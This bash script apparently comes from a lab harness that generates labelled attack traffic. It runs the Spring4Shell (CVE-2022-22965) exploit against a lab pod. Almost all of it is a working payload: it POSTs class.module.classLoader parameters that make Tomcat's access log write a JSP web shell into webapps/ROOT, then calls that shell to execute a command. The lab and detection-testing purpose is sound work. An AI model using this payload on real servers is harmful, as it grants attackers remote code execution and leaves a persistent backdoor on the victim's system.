#!/usr/bin/env bash
# Exploitation: Spring4Shell (CVE-2022-22965) class.module.classLoader data binding
# that would write a JSP web shell through Tomcat's access log valve.
set -euo pipefail
source "$LAB_DIR/lib.sh"
T=$(lab_pod_ip legacy); lab_assert_target "$T"
ns=$(lab_pod_ns toolbox)
gt_begin spring4shell exploitation curl pod:toolbox pod:legacy 'class.module.classLoader.resources.context.parent.pipeline.first.* POST, then the shell request'
p='class.module.classLoader.resources.context.parent.pipeline.first'
lab_exec "$ns" timeout 10 curl -s -o /dev/null --max-time 3 -H 'suffix: %>//' -H 'c1: Runtime' -H 'c2: <%' -H 'DNT: 1' \
  --data-urlencode "$p.pattern=%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter(\"cmd\")).getInputStream(); } %{suffix}i" \
  --data-urlencode "$p.suffix=.jsp" --data-urlencode "$p.directory=webapps/ROOT" \
  --data-urlencode "$p.prefix=tomcatwar" --data-urlencode "$p.fileDateFormat=" "http://$T:8080/greeting" || true
lab_exec "$ns" timeout 10 curl -s -o /dev/null --max-time 3 "http://$T:8080/tomcatwar.jsp?pwd=j&cmd=id" || true
gt_end '{"dport":8080}'
